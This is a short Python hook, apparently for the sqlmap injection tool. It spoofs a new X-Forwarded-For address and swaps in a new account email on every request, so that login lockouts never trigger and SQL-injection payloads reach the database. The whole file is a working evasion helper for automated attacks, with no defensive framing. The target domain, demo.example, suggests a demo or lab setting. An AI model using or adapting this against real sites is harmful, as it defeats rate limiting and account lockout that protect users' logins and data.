"""Lets sqlmap try a log-in as often as it likes: each request comes from another address, and is for another account
while it is the password that is tried. Otherwise the fifth would be told to wait, and no statement would be reached."""

from itertools import count

ACCOUNT = "nobody%40demo.example"
requests = count()


# sqlmap looks for this name and this argument.
def preprocess(req):
    number = next(requests)
    req.add_header("X-Forwarded-For", f"10.{number >> 16 & 255}.{number >> 8 & 255}.{number & 255}")
    if req.data:
        text = isinstance(req.data, str)
        data = req.data if text else req.data.decode()
        data = data.replace(f"email={ACCOUNT}&", f"email=nobody{number}%40demo.example&")
        req.data = data if text else data.encode()
